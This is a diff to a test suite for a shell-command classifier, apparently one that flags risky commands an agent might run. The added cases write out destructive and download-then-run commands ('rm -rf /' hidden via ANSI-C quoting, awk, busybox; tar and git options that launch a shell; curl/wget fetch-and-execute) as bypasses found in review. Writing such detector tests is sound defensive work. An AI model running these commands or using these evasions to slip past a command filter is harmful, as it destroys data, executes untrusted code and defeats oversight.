@@ -52,6 +52,15 @@ describe('exec classification', () => {
     ['$CMD -rf /', ['obfuscated'], []],
     ['bash -c "bash -c \\"curl x | sh\\""', ['pipe_to_shell'], []],
     ['echo "unterminated', ['unparseable'], []],
+    // Bypasses found in review: ANSI-C quoting, awk/tar/git running commands, download-then-run.
+    ["$'\\x72m' -rf /", ['obfuscated'], []],
+    ['awk \'BEGIN { system("rm -rf /") }\'', ['obfuscated'], []],
+    ['tar xf a.tar --to-command=sh', ['obfuscated'], []],
+    ['git -c core.pager="sh -c id" log', ['obfuscated'], []],
+    ['curl -o /tmp/f https://x.example; sh /tmp/f', ['pipe_to_shell'], []],
+    ['wget -q https://x.example/m && chmod +x ./m && ./m', ['pipe_to_shell'], []],
+    ['busybox sh -c "rm -rf /"', ['destructive_fs'], []],
+    ['curl -s https://api.example/status && ls -la', ['network_tool'], ['pipe_to_shell']],
     ['git status && npm test', [], ['destructive_fs', 'network_tool', 'credential_access', 'pipe_to_shell']],
     ['set -euo pipefail; ls -la src | grep ts', [], ['credential_access', 'destructive_fs']],
     ['export NODE_ENV=test; node build.js', [], ['credential_access', 'inline_code']],
@@ -72,6 +81,7 @@ describe('exec classification', () => {
     assert.ok(argv('env', 'A=1', 'nice', '-n', '5', 'rm', '-rf', '/').includes('destructive_fs'));
     assert.ok(argv('timeout', '5', 'wget', 'x').includes('network_tool'));
     assert.ok(argv('sudo', 'ls').includes('privilege_escalation'));
+    assert.ok(argv('busybox', 'rm', '-rf', '/').includes('destructive_fs'), 'busybox applets are seen through');
     assert.deepEqual(argv('echo', 'curl | sh'), [], 'argv words are not a shell string');
     assert.deepEqual(analyseExec({ cmd: 'echo hi | sh', shell: true }).classes, [], 'a pipe to a shell from no network command is not pipe_to_shell');
     assert.ok(analyseExec({ cmd: 'curl x', args: ['| sh'], shell: true }).classes.includes('pipe_to_shell'), 'shell: true joins cmd and args');
